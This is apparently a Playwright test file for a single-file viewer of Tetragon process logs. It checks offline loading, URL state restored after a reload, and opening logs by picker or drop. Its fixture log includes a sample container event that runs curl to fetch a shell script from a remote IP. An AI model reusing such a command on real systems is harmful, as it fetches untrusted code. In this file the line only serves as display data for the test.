import { drawLog } from '../src/testing/draw-log'
import { SINGLE_FILE_URL } from './helpers/paths'
import { expect, test } from './helpers/test'

const log = drawLog(`
  pod default/xwing container 1fb931d2 node n1
    10 /bin/bash 0s..9s
      11 /usr/bin/curl -s http://198.51.100.7/s.sh 1s..2s exit 22
`)

test('the single file opens the sample from disk, asks nothing of the network, and its link brings the view back', async ({
  viewer,
  page,
}) => {
  const requests: string[] = []
  page.on('request', (request) => requests.push(request.url()))
  await page.goto(SINGLE_FILE_URL)
  await viewer.openSample()
  await expect(viewer.row('default/xwing')).toBeVisible()
  await viewer.pods.getByRole('button', { name: /^xwing/ }).click()
  await viewer.selectRow('/usr/bin/whoami')
  await expect(viewer.details).toContainText('exit 0')
  expect(requests.filter((url) => !/^(file|blob|data):/.test(url))).toEqual([])
  expect(requests.filter((url) => url.startsWith('file:'))).toHaveLength(1)

  await page.keyboard.press('Escape')
  await viewer.filter.fill('whoami')
  await expect(viewer.status).toContainText('matching')
  await expect(page).toHaveURL(/#v=2-[0-9a-z]+&src=sample&q=whoami/)
  await page.reload()
  await viewer.waitForIdle()
  await expect(viewer.filter).toHaveValue('whoami')
  await expect(viewer.row('/usr/bin/whoami')).toBeVisible()
})

test('the single file opens a log through the file picker, and one that is dropped', async ({
  viewer,
  page,
  folder,
}) => {
  await page.goto(SINGLE_FILE_URL)
  await test.step('picked: its raw JSON is shown', async () => {
    await viewer.openFiles(await folder.write('tetragon.log', log.text))
    await viewer.selectRow('/usr/bin/curl')
    await expect(viewer.details).toContainText('exit 22')
    await page.getByRole('tab', { name: 'Raw JSON' }).click()
    await expect(page.getByRole('tabpanel')).toContainText('"process_exec"')
  })
  await viewer.button('Close log').click()
  await test.step('dropped: it is filtered', async () => {
    await viewer.dropFiles({ name: 'tetragon.log', content: log.text })
    await viewer.waitForIdle()
    await viewer.filter.fill('curl')
    await expect(viewer.status).toContainText('matching 1 of 2')
  })
})
